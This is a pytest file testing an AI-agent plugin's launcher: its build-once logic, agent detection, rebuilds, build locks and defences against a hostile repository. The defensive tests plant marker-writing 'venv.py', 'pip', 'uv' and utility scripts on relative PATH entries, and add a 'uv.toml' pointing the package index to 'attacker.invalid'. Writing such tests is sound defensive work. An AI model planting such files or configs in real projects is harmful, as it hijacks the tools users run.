"""bin/colony-tasks, the plugin's launcher: builds the plugin's environment once under the
plugin's data folder, then execs its console script; hooks fail open until it exists.

A stand-in ``uv`` on PATH records each call and "installs" a console script that prints its
arguments, so the launcher's logic runs for real without building anything."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.support import ROOT

LAUNCHER = ROOT / "bin" / "colony-tasks"

FAKE_UV = """#!/bin/sh
echo "uv $*" >> "$UV_LOG"
if [ "$1" = venv ]; then
    mkdir -p "$3/bin"
elif [ "$1" = pip ]; then
    while [ "$1" != --python ]; do shift; done
    python=$2
    printf '#!/bin/sh\\necho "ran $*"\\n' > "$(dirname "$python")/colony-tasks"
    chmod +x "$(dirname "$python")/colony-tasks"
fi
"""


def plugin_env(tmp_path: Path) -> dict[str, str]:
    return {
        "PATH": f"{tmp_path / 'tools'}:/usr/bin:/bin",
        "HOME": str(tmp_path / "home"),
        "UV_LOG": str(tmp_path / "uv.log"),
        "CLAUDE_PLUGIN_ROOT": str(tmp_path / "plugin-1.0"),
        "CLAUDE_PLUGIN_DATA": str(tmp_path / "data"),
    }


@pytest.fixture
def plugin(tmp_path: Path):
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "uv").write_text(FAKE_UV)
    (tools / "uv").chmod(0o755)
    env = plugin_env(tmp_path)

    def run(*args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(LAUNCHER), *args], env={**env, **extra}, capture_output=True, text=True
        )

    def uv_calls() -> list[str]:
        log = tmp_path / "uv.log"
        return log.read_text().splitlines() if log.exists() else []

    return run, uv_calls, tmp_path


def test_a_hook_before_the_first_session_start_fails_open_without_building(plugin):
    run, uv_calls, _ = plugin
    result = run("hook", "user-prompt-submit")
    assert result.returncode == 0 and result.stdout == ""
    assert uv_calls() == []


def test_the_first_session_start_builds_once_and_later_calls_exec_directly(plugin):
    run, uv_calls, tmp = plugin
    first = run("hook", "session-start")
    assert first.returncode == 0, first.stderr
    assert first.stdout.strip() == "ran hook session-start --agent claude"
    assert "building the plugin's Python environment" in first.stderr
    assert [c.split()[1] for c in uv_calls()] == ["venv", "pip"]
    assert uv_calls()[1].endswith(f"--python {tmp}/data/venv/bin/python {tmp}/plugin-1.0")

    for _ in range(3):
        again = run("hook", "post-tool-use")
        assert again.stdout.strip() == "ran hook post-tool-use --agent claude"
        assert again.stderr == ""
    assert len(uv_calls()) == 2  # no package manager per event
    assert run("mcp").stdout.strip() == "ran mcp"


def test_codex_hooks_get_agent_codex(plugin):
    run, _, tmp = plugin
    run("hook", "session-start")
    codex = run("hook", "stop", PLUGIN_ROOT=str(tmp / "plugin-1.0"))
    assert codex.stdout.strip() == "ran hook stop --agent codex"


def test_a_hook_that_names_its_agent_keeps_it(plugin):
    """Gemini CLI's, Qwen Code's and Copilot CLI's hooks pass --agent; Copilot also sets
    PLUGIN_ROOT, which would otherwise read as Codex."""
    run, _, tmp = plugin
    run("hook", "session-start")
    copilot = run("hook", "stop", "--agent", "copilot", PLUGIN_ROOT=str(tmp / "plugin-1.0"))
    assert copilot.stdout.strip() == "ran hook stop --agent copilot"


def test_a_plugin_update_rebuilds_the_environment(plugin):
    run, uv_calls, tmp = plugin
    run("hook", "session-start")
    updated = run("hook", "session-start", CLAUDE_PLUGIN_ROOT=str(tmp / "plugin-1.1"))
    assert updated.returncode == 0
    assert len(uv_calls()) == 4 and uv_calls()[-1].endswith("plugin-1.1")
    assert (tmp / "data" / "venv" / ".built-from").read_text().strip() == str(tmp / "plugin-1.1")


def test_without_uv_it_uses_venv_and_pip(plugin, tmp_path: Path):
    run, uv_calls, tmp = plugin
    # No uv on PATH and a python3 that fails: the hook still exits 0 and says why on stderr.
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "python3").write_text('#!/bin/sh\necho "python3 $*" >> "$UV_LOG"\nexit 1\n')
    (bare / "python3").chmod(0o755)
    for name in ("sh", "mkdir", "rm", "rmdir", "mv", "dirname", "sleep", "cat"):
        target = next(
            (Path(d) / name for d in ("/usr/bin", "/bin") if (Path(d) / name).exists()), None
        )
        if target:
            os.symlink(target, bare / name)
    result = run("hook", "session-start", PATH=str(bare))
    assert result.returncode == 0 and result.stdout == ""
    assert "could not build" in result.stderr
    assert uv_calls() == [f"python3 -I -m venv {tmp}/data/venv"]
    assert run("mcp", PATH=str(bare)).returncode == 1


def test_codex_mcp_server_uses_the_data_folder_codex_gives_the_hooks(plugin):
    """Codex starts a plugin's MCP server without PLUGIN_ROOT/PLUGIN_DATA, from a copy of the
    launcher in its plugin cache: the server finds the environment the hooks built."""
    run, uv_calls, tmp = plugin
    codex_home = tmp / "codex"
    cached = codex_home / "plugins" / "cache" / "market" / "colony-tasks" / "0.2.0"
    (cached / "bin").mkdir(parents=True)
    shutil.copy2(LAUNCHER, cached / "bin" / "colony-tasks")
    hook_data = codex_home / "plugins" / "data" / "colony-tasks-market"
    codex = {"CLAUDE_PLUGIN_ROOT": "", "CLAUDE_PLUGIN_DATA": ""}

    def launch(*args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        env = {**plugin_env(tmp), **codex, **extra}
        return subprocess.run(
            ["sh", "./bin/colony-tasks", *args], cwd=cached, env=env, capture_output=True, text=True
        )

    hook = launch("hook", "session-start", PLUGIN_ROOT=str(cached), PLUGIN_DATA=str(hook_data))
    assert hook.stdout.strip() == "ran hook session-start --agent codex", hook.stderr
    server = launch("mcp")
    assert server.stdout.strip() == "ran mcp" and server.stderr == ""
    assert len(uv_calls()) == 2  # built once, by the hook
    assert not (tmp / "home" / ".colony-tasks").exists()


def test_a_build_lock_left_by_a_killed_builder_is_taken_over(plugin):
    run, uv_calls, tmp = plugin
    lock = tmp / "data" / ".building"
    lock.mkdir(parents=True)
    dead = subprocess.Popen(["true"])
    dead.wait()
    (lock / "pid").write_text(f"{dead.pid}\n")
    result = run("hook", "session-start")
    assert result.stdout.strip() == "ran hook session-start --agent claude", result.stderr
    assert not lock.exists()


def test_a_source_newer_than_the_build_is_rebuilt_at_the_next_session_start(plugin):
    """A local clone updated in place (`git pull`; Claude Code runs such a plugin in place)."""
    run, uv_calls, tmp = plugin
    source = tmp / "plugin-1.0" / "colony_tasks" / "events.py"
    source.parent.mkdir(parents=True)
    source.write_text("# 1.0\n")
    run("hook", "session-start")
    assert len(uv_calls()) == 2
    assert run("hook", "session-start").stderr == ""  # unchanged: no build
    stamp = tmp / "data" / "venv" / ".built-from"
    built = stamp.stat().st_mtime - 120
    os.utime(stamp, (built, built))  # built two minutes ago,
    os.utime(source, (built + 60, built + 60))  # the pull a minute later
    assert run("hook", "post-tool-use").stdout.strip().startswith("ran hook post-tool-use")
    assert len(uv_calls()) == 2  # other events trust the stamp
    rebuilt = run("hook", "session-start")
    assert "building the plugin's Python environment" in rebuilt.stderr
    assert len(uv_calls()) == 4
    assert run("mcp").stderr == ""  # the new build is newer than the source


def test_compiled_files_alone_do_not_trigger_a_rebuild(plugin):
    run, uv_calls, tmp = plugin
    package = tmp / "plugin-1.0" / "colony_tasks"
    package.mkdir(parents=True)
    run("hook", "session-start")
    stamp = tmp / "data" / "venv" / ".built-from"
    built = stamp.stat().st_mtime - 120
    os.utime(stamp, (built, built))
    cache = package / "__pycache__" / "events.cpython-311.pyc"
    cache.parent.mkdir()
    cache.write_text("")  # written now, after the build
    assert run("mcp").stderr == ""
    assert len(uv_calls()) == 2


# -- the launcher runs nothing from the repository -------------------------------------------

PLANT = '#!/bin/sh\necho "{name} $*" >> "{marker}"\nexit 1\n'
#: What the launcher runs besides the package managers (the test's PATH has nothing else).
UTILITIES = ("sh", "mkdir", "rm", "dirname", "basename", "sleep", "cat", "find", "head", "chmod")


def system_tools(folder: Path, *, python3: bool) -> Path:
    """An absolute PATH entry with the launcher's utilities, and the system's real python3
    (without uv: the launcher takes python3 -m venv and pip) when asked."""
    folder.mkdir()
    for name in UTILITIES + (("python3",) if python3 else ()):
        target = shutil.which(name, path="/usr/bin:/bin")
        if target is None:
            pytest.skip(f"no {name} in /usr/bin or /bin")
        os.symlink(target, folder / name)
    return folder


def launch_in(repo: Path, tmp: Path, path: str, *args: str) -> subprocess.CompletedProcess[str]:
    """The launcher as an agent runs it: in the session's working folder (the repository)."""
    env = {**plugin_env(tmp), "PATH": path}
    return subprocess.run(
        [str(LAUNCHER), *args], cwd=repo, env=env, capture_output=True, text=True, timeout=300
    )


def test_a_repositorys_venv_module_does_not_run_at_the_build(tmp_path: Path):
    repo, marker = tmp_path / "repo", tmp_path / "pwned"
    repo.mkdir()
    (repo / "venv.py").write_text(f"open({str(marker)!r}, 'a').write('venv.py ran')\n")
    tools = system_tools(tmp_path / "sys", python3=True)
    result = launch_in(repo, tmp_path, str(tools), "hook", "session-start")
    assert result.returncode == 0
    assert not marker.exists()


def test_a_repositorys_pip_package_does_not_run_at_the_build(tmp_path: Path):
    repo, marker = tmp_path / "repo", tmp_path / "pwned"
    (repo / "pip").mkdir(parents=True)
    for name in ("__init__.py", "__main__.py"):
        (repo / "pip" / name).write_text(f"open({str(marker)!r}, 'a').write('pip ran')\n")
    tools = system_tools(tmp_path / "sys", python3=True)
    result = launch_in(repo, tmp_path, str(tools), "hook", "session-start")
    assert result.returncode == 0
    assert not marker.exists()


TRUSTED_PYTHON3 = '#!/bin/sh\necho "python3 $*" >> "$UV_LOG"\nexit 1\n'


@pytest.mark.parametrize(
    ("entry", "planted"),
    [
        ("bin", "uv"),
        ("bin", "python3"),
        ("bin", "utilities"),
        ("./bin", "uv"),
        ("", "uv"),
        ("", "utilities"),
    ],
)
def test_a_relative_path_entry_cannot_plant_the_package_manager_or_a_utility(
    tmp_path: Path, entry: str, planted: str
):
    """``bin`` and ``./bin`` name a folder of the repository; an empty entry is the
    repository itself. What is planted there (uv, python3, the utilities the launcher calls)
    never runs: the trusted uv or python3 (an absolute PATH entry, before or after it) does."""
    repo, marker = tmp_path / "repo", tmp_path / "pwned"
    folder = repo / entry if entry else repo
    folder.mkdir(parents=True)
    names = {"uv": ["uv"], "python3": ["python3"], "utilities": ["uv", *UTILITIES[1:]]}[planted]
    for name in names:
        (folder / name).write_text(PLANT.format(name=name, marker=marker))
        (folder / name).chmod(0o755)
    tools = tmp_path / "tools"
    tools.mkdir()
    if planted == "python3":  # no uv anywhere: the launcher takes python3
        (tools / "python3").write_text(TRUSTED_PYTHON3)
        (tools / "python3").chmod(0o755)
    else:
        (tools / "uv").write_text(FAKE_UV)
        (tools / "uv").chmod(0o755)
    system = system_tools(tmp_path / "sys", python3=False)
    path = f"{entry}:{tools}:{system}"
    first = launch_in(repo, tmp_path, path, "hook", "session-start")
    later = launch_in(repo, tmp_path, path, "hook", "post-tool-use")
    assert not marker.exists(), marker.read_text()
    calls = (tmp_path / "uv.log").read_text().splitlines()
    if planted == "python3":
        assert first.returncode == 0 and "could not build" in first.stderr
        assert calls == [f"python3 -I -m venv {tmp_path}/data/venv"]
        return
    assert first.stdout.strip() == "ran hook session-start --agent claude", first.stderr
    assert later.stdout.strip() == "ran hook post-tool-use --agent claude"
    assert [c.split()[1] for c in calls] == ["venv", "pip"]


def test_the_build_runs_from_the_data_folder_and_the_hook_from_the_session_folder(plugin):
    """uv reads uv.toml and pyproject.toml from its working folder up (an index of the
    repository's choosing): the build runs in the data folder; the command it execs still runs
    where the agent started it."""
    run, uv_calls, tmp = plugin
    repo = tmp / "repo"
    repo.mkdir()
    (repo / "uv.toml").write_text('index-url = "http://attacker.invalid/simple"\n')
    uv = tmp / "tools" / "uv"
    uv.write_text(FAKE_UV.replace('echo "uv $*"', 'echo "uv $* (in $(pwd))"'))
    env = {**plugin_env(tmp)}
    script = tmp / "data" / "venv" / "bin" / "colony-tasks"
    first = subprocess.run(
        [str(LAUNCHER), "hook", "session-start"], cwd=repo, env=env, capture_output=True, text=True
    )
    assert first.returncode == 0, first.stderr
    assert all(call.endswith(f"(in {tmp / 'data'})") for call in uv_calls()), uv_calls()
    script.write_text('#!/bin/sh\necho "ran in $(pwd)"\n')
    later = subprocess.run(
        [str(LAUNCHER), "mcp"], cwd=repo, env=env, capture_output=True, text=True
    )
    assert later.stdout.strip() == f"ran in {repo}"


# -- the build lock --------------------------------------------------------------------------


def start_token(pid: int) -> str:
    """What the launcher records of a process's start: field 22 of /proc/<pid>/stat."""
    stat = Path(f"/proc/{pid}/stat").read_text()
    return stat.rsplit(") ", 1)[1].split()[19]


def test_a_build_lock_whose_pid_now_names_another_process_is_taken_over(plugin):
    """The builder died and its pid was given to an unrelated process: alive, not a builder."""
    run, uv_calls, tmp = plugin
    if not Path("/proc/self/stat").exists():
        pytest.skip("no /proc here: the launcher compares start times from ps instead")
    other = subprocess.Popen(["sleep", "300"])
    try:
        lock = tmp / "data" / ".building"
        lock.mkdir(parents=True)
        (lock / "pid").write_text(f"{other.pid}\n")
        (lock / "started").write_text(f"{int(start_token(other.pid)) - 100}\n")
        result = subprocess.run(
            [str(LAUNCHER), "hook", "session-start"],
            env=plugin_env(tmp),
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.stdout.strip() == "ran hook session-start --agent claude", result.stderr
        assert not lock.exists() and len(uv_calls()) == 2
    finally:
        other.kill()
        other.wait()


def test_a_build_lock_of_a_live_builder_is_waited_for(plugin):
    """Its pid names the process that took it (same start): the launcher waits (a stand-in
    ``sleep`` sees it wait, then plays the builder finishing) and then builds."""
    run, uv_calls, tmp = plugin
    if not Path("/proc/self/stat").exists():
        pytest.skip("no /proc here: the launcher compares start times from ps instead")
    builder = subprocess.Popen(["sleep", "300"])
    try:
        lock = tmp / "data" / ".building"
        lock.mkdir(parents=True)
        (lock / "pid").write_text(f"{builder.pid}\n")
        (lock / "started").write_text(f"{start_token(builder.pid)}\n")
        (tmp / "tools" / "sleep").write_text(
            f'#!/bin/sh\necho "waited $*" >> "$UV_LOG"\nrm -rf {str(lock)!r}\n'
        )
        (tmp / "tools" / "sleep").chmod(0o755)
        result = run("hook", "session-start")
        assert result.stdout.strip() == "ran hook session-start --agent claude", result.stderr
        assert uv_calls()[0] == "waited 1"
        assert [c.split()[1] for c in uv_calls()[1:]] == ["venv", "pip"]
    finally:
        builder.kill()
        builder.wait()


def test_a_relative_plugin_data_folder_is_refused(plugin):
    """A relative folder would be the session's working folder's (the repository's)."""
    run, uv_calls, _ = plugin
    hook = run("hook", "session-start", CLAUDE_PLUGIN_DATA="data")
    assert hook.returncode == 0 and hook.stdout == ""
    assert "must be absolute paths: data" in hook.stderr
    assert run("mcp", CLAUDE_PLUGIN_DATA="data").returncode == 1
    assert uv_calls() == []
